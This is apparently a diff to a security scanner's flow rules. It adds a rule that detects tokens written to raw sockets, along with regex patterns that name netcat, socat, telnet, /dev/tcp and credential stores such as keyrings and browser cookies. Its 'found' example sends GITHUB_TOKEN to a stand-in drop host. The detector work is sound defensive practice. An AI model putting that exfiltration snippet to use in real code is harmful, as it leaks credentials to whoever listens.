@@ -22,6 +22,10 @@ const STORED =
   /^(\{…\})?[/~]|^[A-Za-z]:[\\/]|^(\$HOME|\$\{HOME\})|keyring|keytar|netrc|browser_cookie|CryptUnprotectData|clipboard|pyperclip|secretstorage|spwd|^\/etc\//;
 /** The name of a variable. */
 const VARIABLE = /^[A-Za-z_]\w*$/;
+/** No password: protocols that want one have clients that are written by hand. */
+const TOKEN = /^\w*(TOKEN|KEY|SECRET|CREDENTIAL)\w*$/i;
+const BARE =
+  /^(socket\.socket\.\w+|ssl\.SSLSocket\.\w+|(net|tls|dgram)\.(TLS)?Socket\.\w+|\/dev\/(tcp|udp)|nc|ncat|netcat|socat|telnet)$/;
 const EVERYTHING = /^\*$/;
 
 export const flowRules = {
@@ -87,6 +91,34 @@ export const flowRules = {
       },
     },
     when: { flow: { from: ['secret'], source: VARIABLE, to: [GOES_OUT], part: ['content'] } },
+  },
+  'token-over-socket': {
+    severity: 'high',
+    title: 'Writes a token to a bare connection',
+    capability: 'network.send',
+    why: 'Services take tokens in requests. Whoever listens on a bare port and is sent one collects them.',
+    cwe: ['CWE-200', 'CWE-526'],
+    attack: ['T1552.007', 'T1095'],
+    message: 'The variable {source} is written to {callee} {target}.',
+    remedy: 'Do not run it where real tokens are. Use the service’s own client.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import os, socket\n\nout = socket.create_connection(('irc.drop.example', 6667))\nout.sendall(os.environ['GITHUB_TOKEN'].encode())",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import os, socket\n\nout = socket.create_connection(('cache.example', 6379))\nout.sendall(os.environ['CACHE_NAMESPACE'].encode())",
+      },
+    },
+    when: {
+      flow: {
+        from: ['secret'],
+        source: TOKEN,
+        to: [{ capability: ['network.connect', 'network.send'], callee: BARE, except: [LOCAL] }],
+        part: ['content'],
+      },
+    },
   },
   'secret-looked-up': {
     severity: 'high',
